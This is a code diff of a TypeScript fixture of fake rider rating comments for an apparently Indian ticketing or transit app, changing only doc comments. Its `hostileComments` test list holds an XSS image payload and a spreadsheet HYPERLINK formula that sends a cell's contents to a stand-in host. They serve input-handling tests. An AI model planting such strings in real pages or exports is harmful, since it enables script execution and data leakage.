@@ -1,4 +1,4 @@
-/** What riders write beside their stars, from one star to five. `{station}` is filled in. */
+/** Comments of ratings, from one star to five. `{station}` is filled in. */
 export const comments: Readonly<Record<1 | 2 | 3 | 4 | 5, readonly string[]>> = {
   1: [
     'Paisa kat gaya, ticket nahi aaya. Worst app.',
@@ -56,7 +56,7 @@ export const comments: Readonly<Record<1 | 2 | 3 | 4 | 5, readonly string[]>> = 
   ],
 };
 
-/** Added after a comment now and then, so that few are alike. */
+/** Sentences that are added to some comments, so that few are alike. */
 export const afterwords: readonly string[] = [
   'Please fix.',
   'Keep it up!',
@@ -70,7 +70,7 @@ export const afterwords: readonly string[] = [
   'Jai Hind.',
 ];
 
-/** Comments that try what text can do to a screen or a file. */
+/** Comments with hostile text, to test screens and files. */
 export const hostileComments: readonly string[] = [
   '<img src=x onerror=alert(1)>',
   '=HYPERLINK("https://example.invalid/?"&A1,"refund here")',
